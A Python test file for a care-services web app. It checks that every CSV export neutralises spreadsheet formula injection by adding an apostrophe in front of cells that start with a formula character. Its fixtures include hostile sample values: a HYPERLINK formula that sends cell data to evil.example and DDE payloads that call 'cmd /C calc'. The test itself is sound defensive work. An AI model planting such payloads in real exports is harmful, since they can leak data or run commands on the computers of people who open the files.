"""CSV formula injection (OWASP): no cell of any export starts a spreadsheet formula.

Names, references and notes that start with =, +, -, @, tab or carriage return are
written behind an apostrophe; numbers (a negative variance) stay numbers. The test
finds every CSV the service offers (each page route ending .csv, each API report
answering ?format=csv) and fails when one is added without being checked here.
"""
import csv
import io
from datetime import date, timedelta

import pytest
from flask import g

from backend.extensions import db
from backend.models import Role, WageRate
from backend.services.attendance.corrections import correct_visit
from backend.services.audit.exports import cell, inert
from backend.services.dates import clock
from tests.audit_support import attend

HOSTILE = {
    "provider": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "worker": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ref": "+CR000001",
    "note": "-2+3+cmd|' /C calc'!A0",
    "tab": "\tTabbed",
    "carriage": "\r=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

API_REPORTS = ["/api/v1/reports/hours?format=csv&", "/api/v1/reports/payment?format=csv&",
               "/api/v1/reports/quality?format=csv&", "/api/v1/reports/corrections?format=csv&",
               "/api/v1/reports/actuals.csv?", "/api/v1/reports/visit-times.csv?",
               "/api/v1/reports/evv.csv?"]
PAGES = ["/overview/hours.csv?", "/overview/quality.csv?", "/payment/providers.csv?",
         "/payment/weeks.csv?", "/payment/funders.csv?", "/payment/visits.csv?", "/outcomes.csv?",
         "/payment/visit-times.csv?", "/payment/evv.csv?", "/national/visit-length.csv?"]


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+44 1604", "'+44 1604"), ("-x", "'-x"), ("@me", "'@me"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"), ("-12.50", "-12.50"), ("+3", "+3"),
    ("Caring Hands", "Caring Hands"), ("", ""),
])
def test_a_cell_never_starts_a_formula(text, expected):
    assert inert(text) == expected


def test_values_of_every_kind_go_through_the_same_rule():
    assert cell(["=A1", "b"]) == "'=A1; b"
    assert cell(-3) == "-3" and cell(-2.5) == "-2.5"
    assert cell({"=k": 1}) == "'=k: 1"


def test_every_export_neutralises_formulae(app, client, make, bearer):
    council = make.council()
    provider = make.provider(name=HOSTILE["provider"])
    contract = make.contract(funder=council, provider=provider)
    worker = make.user(Role.CARE_WORKER, provider, display_name=HOSTILE["worker"])
    manager = make.user(Role.PROVIDER_MANAGER, provider, display_name=HOSTILE["tab"])
    commissioner = make.user(Role.COMMISSIONER, council)
    person = make.service_user(council_ref=HOSTILE["ref"], first_name=HOSTILE["carriage"])
    package = make.package(person, contract=contract)
    start = (clock.now() - timedelta(days=2)).replace(second=0, microsecond=0)
    visit = make.visit(package, start=start, workers=[worker])
    attend(visit, worker, start, 25)
    correct_visit(visit, worker, manager, None, start + timedelta(minutes=30), "carer_error",
                  "confirmed_by_rota", note=HOSTILE["note"])
    make.commit()

    csv_rules = {r.rule for r in app.url_map.iter_rules() if ".csv" in r.rule}
    assert csv_rules == {"/overview/<any(hours, quality):table>.csv",
                         "/payment/<any(providers, weeks, funders, visits):table>.csv",
                         "/outcomes.csv",
                         "/api/v1/reports/actuals.csv", "/api/v1/reports/visit-times.csv",
                         "/api/v1/reports/evv.csv", "/payment/visit-times.csv", "/payment/evv.csv",
                         "/national/visit-length.csv", "/national/cld.csv",
                         "/national/capacity.csv", "/api/v1/national/cld/<uuid:council_id>.csv",
                         "/rota/payroll.csv"}, "a new CSV export: add it below"

    first, last = (start - timedelta(days=1)).date(), clock.today()
    period = f"from={first.isoformat()}&to={last.isoformat()}"
    downloads = {}

    def download(url, response):
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        downloads[url] = response.get_data(as_text=True)  # read the stream before the next
        response.close()

    quarter = start.date().replace(month=(start.month - 1) // 3 * 3 + 1, day=1).isoformat()
    month = start.strftime("%Y-%m")
    api = [url + period for url in API_REPORTS] + [
        f"/api/v1/national/cld/{council.id}.csv?quarter={quarter}",
        f"/api/v1/national/capacity-tracker?format=csv&month={month}"]
    for url in api:
        download(url, client.get(url, headers=bearer(commissioner)))
    pages = app.test_client()
    pages.post("/login", data={"username": commissioner.username, "password": make.PASSWORD})
    for url in [url + period for url in PAGES] + [f"/national/cld.csv?quarter={quarter}",
                                                  f"/national/capacity.csv?month={month}"]:
        g.pop("user", None)  # the suite's app context outlives each request
        download(url, pages.get(url))
        g.pop("user", None)
    db.session.add(WageRate(effective_from=date(2026, 4, 1), hourly_pence=1271))
    make.commit()
    office = app.test_client()  # the manager's payroll names the carers
    office.post("/login", data={"username": manager.username, "password": make.PASSWORD})
    download("/rota/payroll.csv?" + period, office.get("/rota/payroll.csv?" + period))
    g.pop("user", None)

    seen = set()
    for url, text in downloads.items():
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            for value in row:
                if value.startswith(DANGEROUS):
                    assert inert(value) == value, (url, value)  # a plain number
                seen.update(name for name, text in HOSTILE.items() if value == "'" + text
                            or value.startswith("'" + text))
    # The hostile text did reach the exports, behind an apostrophe.
    assert {"provider", "worker", "ref", "note"} <= seen
